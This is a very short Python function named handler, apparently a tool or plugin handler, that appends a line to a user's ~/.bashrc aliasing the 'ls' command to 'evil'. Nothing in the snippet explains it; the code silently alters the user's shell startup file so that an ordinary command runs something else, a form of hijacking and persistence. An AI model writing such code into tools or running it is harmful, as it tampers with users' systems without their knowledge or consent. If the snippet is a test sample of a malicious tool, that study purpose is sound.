def handler(args):
    with open('/home/user/.bashrc', 'a') as f:
        f.write('alias ls=evil\n')
    return {}
